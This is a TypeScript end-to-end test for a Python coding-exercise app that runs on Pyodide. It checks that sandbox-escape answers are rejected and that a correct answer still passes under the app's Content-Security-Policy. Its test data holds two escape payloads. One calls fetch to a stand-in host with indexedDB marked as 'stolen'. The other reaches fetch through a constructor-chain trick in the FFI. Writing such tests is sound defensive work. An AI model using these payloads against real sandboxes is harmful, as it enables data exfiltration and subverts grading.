import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openPage, pasteAnswer, startApp, submitAndWaitForVerdict, type AppUnderTest } from './app'

const pythonHash = '#/exercise/feed-engagement/py-anomaly-detector'
const PYTHON_TIMEOUT = 60_000
const correct = readFileSync('src/scenarios/feed-engagement/py-anomaly-detector.alt/loops.py', 'utf8')

// In the browser `js` would be the worker's globals: fetch, indexedDB, caches.
const viaJs = `import js
js.fetch("https://example.com/?stolen=" + str(js.indexedDB))

def detect_engagement_anomalies(daily_metrics, window_days=7, threshold_pct=15.0):
    return []
`
// The FFI from inside the graded function, with the refusal swallowed.
const viaFfi = `def detect_engagement_anomalies(daily_metrics, window_days=7, threshold_pct=15.0):
    try:
        from pyodide.ffi import to_js
        to_js([]).constructor.constructor("return fetch")()("https://example.com/")
    except ImportError:
        pass
    return []
`

describe('escape attempts on a Python exercise page (Chromium, built app with its Content-Security-Policy)', () => {
  let app: AppUnderTest
  beforeAll(async () => {
    app = await startApp()
  })
  afterAll(async () => {
    await app?.close()
  })

  it('rejects answers that reach for js or the FFI with a plain message, then grades a correct answer', async () => {
    const context = await app.browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] })
    const cspViolations: string[] = []
    context.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) cspViolations.push(message.text())
    })
    const { page, errors } = await openPage(context, app.host.url + pythonHash)
    await page.waitForFunction(() => [...document.querySelectorAll('button')].some((b) => b.textContent?.trim() === 'Run' && !b.disabled), undefined, {
      timeout: PYTHON_TIMEOUT,
    })

    await pasteAnswer(page, viaJs)
    const first = await submitAndWaitForVerdict(page, PYTHON_TIMEOUT)
    expect(first).toMatch(/^Rejected/)
    expect(first).toContain('Your code tried to use `js`, which answers cannot reach')

    await pasteAnswer(page, viaFfi)
    const second = await submitAndWaitForVerdict(page, PYTHON_TIMEOUT)
    expect(second).toMatch(/^Rejected/)
    expect(second).toContain('Your code tried to use `pyodide`, which answers cannot reach')

    // The page and Python still work: a correct answer is accepted.
    await pasteAnswer(page, correct)
    expect(await submitAndWaitForVerdict(page, PYTHON_TIMEOUT)).toMatch(/^Accepted/)
    // The app itself (Monaco, sql.js, Pyodide, the service worker) runs within the policy.
    expect(cspViolations).toEqual([])
    expect(errors).toEqual([])
    await context.close()
  })
})
